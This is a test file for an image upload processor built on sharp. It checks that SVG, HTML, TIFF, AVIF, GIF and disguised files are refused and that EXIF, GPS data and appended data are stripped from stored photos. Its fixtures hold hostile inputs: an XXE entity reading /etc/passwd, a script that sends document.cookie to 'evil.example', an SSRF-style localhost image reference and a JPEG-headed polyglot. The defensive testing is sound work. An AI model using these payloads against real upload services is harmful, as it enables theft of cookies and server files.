import { sentence } from '../../../texts/sentence.js';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { PhotoRefused, type ProcessedPhoto } from '../../application/ports/image-processor.js';
import { SharpImageProcessor } from './sharp-image-processor.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'porchlight-photos-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function process(filename: string, bytes: Buffer): Promise<ProcessedPhoto> {
  const path = join(folder, filename);
  await writeFile(path, bytes);
  return new SharpImageProcessor().process({ field: 'images', filename, path, bytes: bytes.length });
}
const plain = (width = 40, height = 30) => sharp({ create: { width, height, channels: 3, background: '#884422' } });

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">';
const ENTITY = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const PROGRAM = '<script>fetch("https://evil.example/?"+document.cookie)</script>';

describe('a file that is not a photo', () => {
  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['drawing.svg', () => Buffer.from(`${SVG}<rect width="9" height="9"/></svg>`)],
    ['entity.jpg', () => Buffer.from(`<?xml version="1.0"?>${ENTITY}${SVG}<text>&x;</text></svg>`)],
    ['asks.png', () => Buffer.from(`${SVG}<image href="http://127.0.0.1:9/secret" width="9" height="9"/></svg>`)],
    ['huge.svg', () => Buffer.from(SVG.replaceAll('"9"', '"900000"') + '</svg>')],
    ['moving.gif', () => Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64')],
    ['scan.tiff', () => plain().tiff().toBuffer()],
    ['phone.avif', () => plain().avif().toBuffer()],
    ['page.html', () => Buffer.from(`<!doctype html>${PROGRAM}`)],
    ['begins-like.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(PROGRAM)])],
  ])('%s is refused with a message that names it', async (name, make) => {
    const refused = process(name, await make());
    await expect(refused).rejects.toBeInstanceOf(PhotoRefused);
    await expect(refused).rejects.toThrow(sentence('problem.not-a-photo', { name }));
  });

  it('is not parsed by a program for its format', async () => {
    await expect(sharp(Buffer.from(`${SVG}</svg>`)).metadata()).rejects.toThrow('unsupported image format');
    await expect(sharp(await plain().tiff().toBuffer()).metadata()).rejects.toThrow('unsupported image format');
  });
});

describe('a photo with embedded data', () => {
  it.each(['jpeg', 'png', 'webp'] as const)('is stored without it: %s', async (format) => {
    const about = {
      IFD0: { ImageDescription: PROGRAM, Copyright: 'Maya Tremblay' },
      IFD3: { GPSLatitude: '43/1 47/1' },
    };
    const photo = await plain().withExif(about).toFormat(format).toBuffer();
    const archive = Buffer.from('PK\u0003\u0004 another file');
    const { large, thumbnail } = await process(
      `two-in-one.${format}`,
      Buffer.concat([photo, archive, Buffer.from(PROGRAM)]),
    );
    for (const made of [large, thumbnail]) {
      const { format: becomes, exif, xmp, icc } = await sharp(made).metadata();
      expect([becomes, exif, xmp, icc]).toEqual(['webp', undefined, undefined, undefined]);
      for (const left of ['<script', 'Tremblay', 'another file']) expect(made.includes(left)).toBe(false);
    }
  });
});
